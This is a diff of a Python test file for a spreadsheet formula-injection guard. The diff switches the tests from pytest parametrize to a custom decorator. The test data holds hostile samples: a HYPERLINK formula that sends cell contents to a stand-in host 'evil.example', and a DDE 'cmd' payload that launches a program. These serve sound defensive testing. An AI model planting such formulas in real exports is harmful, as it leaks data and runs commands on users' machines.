@@ -12,6 +12,7 @@ from django.core.management import call_command
 
 from documents.library.spreadsheets import Cell, Formula, Sheet, WorkbookFile, guarded, is_formula
 from tests import factories
+from tests.cases import every_case
 
 FORMULA = 'HYPERLINK("https://evil.example/?"&A1)'
 UNSEEN = [
@@ -34,8 +35,8 @@ SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "�
 PACKAGES = ("agentic", "chat", "documents", "llm", "ragsite", "retrieval", "samples")
 
 
-@pytest.mark.parametrize("before", [*UNSEEN, "\ufeff \t", "\u200b\u200b"])
-@pytest.mark.parametrize("sign", SIGNS)
+@every_case("before", [*UNSEEN, "\ufeff \t", "\u200b\u200b"])
+@every_case("sign", SIGNS)
 def test_what_begins_like_a_formula_gets_an_apostrophe(before, sign):
     cell = f"{before}{sign}{FORMULA}"
     assert guarded(cell).startswith("'")
@@ -50,7 +51,7 @@ def test_other_ways_in_are_closed(cell):
     assert guarded(cell).replace("'", "") == cell.replace("'", "")
 
 
-@pytest.mark.parametrize(
+@every_case(
     "cell",
     [
         "-5",
@@ -74,15 +75,13 @@ def test_numbers_stay_numbers(cell):
     assert guarded(cell) == cell
 
 
-@pytest.mark.parametrize(
-    "cell", ["", " ", "-", "–", "— none", "Revenue", "a=b", "5 - 3", "x@example.com", "'=1", "(5)"]
-)
+@every_case("cell", ["", " ", "-", "–", "— none", "Revenue", "a=b", "5 - 3", "x@example.com", "'=1", "(5)"])
 def test_other_words_stay_as_they_are(cell):
     assert guarded(cell) == cell
 
 
-@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n", "; ", ";\ufeff"])
-@pytest.mark.parametrize("formula", ["=1", "＝cmd()", "@SUM(1)", "-1+cmd|' /C calc'!A0", "+A1+(2)"])
+@every_case("separator", [";", "\t", "\n", "\r\n", "; ", ";\ufeff"])
+@every_case("formula", ["=1", "＝cmd()", "@SUM(1)", "-1+cmd|' /C calc'!A0", "+A1+(2)"])
 def test_a_formula_after_another_countrys_separator_is_guarded(separator, formula):
     out = io.StringIO()
     Sheet(out).row(["a", f"words{separator}{formula}"])
